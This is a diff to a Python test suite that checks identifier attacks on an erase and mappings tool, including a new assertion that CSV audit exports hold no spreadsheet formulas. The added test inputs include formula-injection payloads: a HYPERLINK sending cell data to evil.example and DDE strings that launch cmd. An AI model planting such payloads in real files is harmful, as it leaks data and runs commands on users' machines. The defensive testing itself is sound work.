@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import re
 import uuid
@@ -94,6 +96,10 @@ NAMES = [
     "x" * 10_000,
     "\ud800",
     "u-1\u2028x",
+    '=HYPERLINK("http://evil.example/?"&A1,"open")',
+    "+1+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3",
 ]
 
 
@@ -150,6 +156,14 @@ def _jsonl(row: dict[str, str]) -> str:
         return json.dumps(row) + "\n"
 
 
+def _no_formulas(text: str) -> None:
+    """No CSV cell a spreadsheet would run: none starts with = + - @ (or tab, CR)."""
+    rows = list(csv.reader(io.StringIO(text)))
+    assert len(rows) > 1, text[:200]  # the header and the erasures of the odd ids
+    cells = [c for row in rows for c in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], text[:500]
+
+
 def _deleted(paths: list[str], rids: list[str]) -> set[str]:
     return {p.rsplit("/", 1)[1] for p in paths if p.rsplit("/", 1)[1] in rids}
 
@@ -202,7 +216,7 @@ def test_mapping_file_identifier_attacks_reach_zeeg_only_as_valid_ids(
     assert json.loads(result.stdout)["linked"] == len(_opaque(NAMES)), result.stdout[:300]
     assert not isinstance(result.exception, Exception) or isinstance(result.exception, SystemExit)
     for name in [*NAMES, "u-obj", "u-rid", "u-src"]:
-        erased = cli("erase", "--source", "userdb", name)
+        erased = cli("erase", "--source", "userdb", "--", name)
         assert erased.exit_code in (0, 1, 2), (name[:20], erased.output)
         assert erased.exception is None or isinstance(erased.exception, SystemExit), (
             erased.exception
@@ -241,13 +255,16 @@ def test_admin_identifier_attacks_reach_zeeg_only_as_valid_ids(
     assert answer.status_code == 200, answer.get_json()
     # Every row with a well-formed external id is linked: none is lost to a line split.
     report = answer.get_json()
-    assert report["linked"] + report["unchanged"] == len(_opaque(NAMES)), report
     for name in [*NAMES, "u-rid", "u-bulk"]:
         answer = admin.post("/admin/erase", json={"source": "userdb", "external_id": name})
         assert answer.status_code < 500, (name[:20], answer.get_json())
     drain(settings, conns)
     paths = _only_safe_paths(sandbox)
     assert _deleted(paths, [rid]) == {rid}  # linked under the valid odd external ids
+    _no_formulas(admin.get("/admin/audit?format=csv").get_data(as_text=True))
+    # Last, so that the checks above run first: every well-formed row was linked (no line is
+    # lost to a split on U+2028).
+    assert report["linked"] + report["unchanged"] == len(_opaque(NAMES)), report
 
 
 def test_cli_identifier_attacks_reach_zeeg_only_as_valid_ids(
@@ -257,13 +274,13 @@ def test_cli_identifier_attacks_reach_zeeg_only_as_valid_ids(
     (rid,) = sandbox.state.seed("contacts", [{}])
     for name in NAMES:
         for args in (("userdb", "contacts", name, rid), ("userdb", name, "u-1", rid)):
-            result = cli("mappings", "set", *args)
+            result = cli("mappings", "set", "--", *args)
             assert result.exception is None or isinstance(result.exception, SystemExit), args
     for bad in _bad_record_ids(rid):
-        result = cli("mappings", "set", "userdb", "contacts", "u-rid", bad)
+        result = cli("mappings", "set", "--", "userdb", "contacts", "u-rid", bad)
         assert result.exit_code != 0, (bad[:40], result.output)
     for name in [*NAMES, "u-rid"]:
-        result = cli("erase", "--source", "userdb", name)
+        result = cli("erase", "--source", "userdb", "--", name)
         assert result.exception is None or isinstance(result.exception, SystemExit), name[:20]
     drain(settings, conns)
     paths = _only_safe_paths(sandbox)
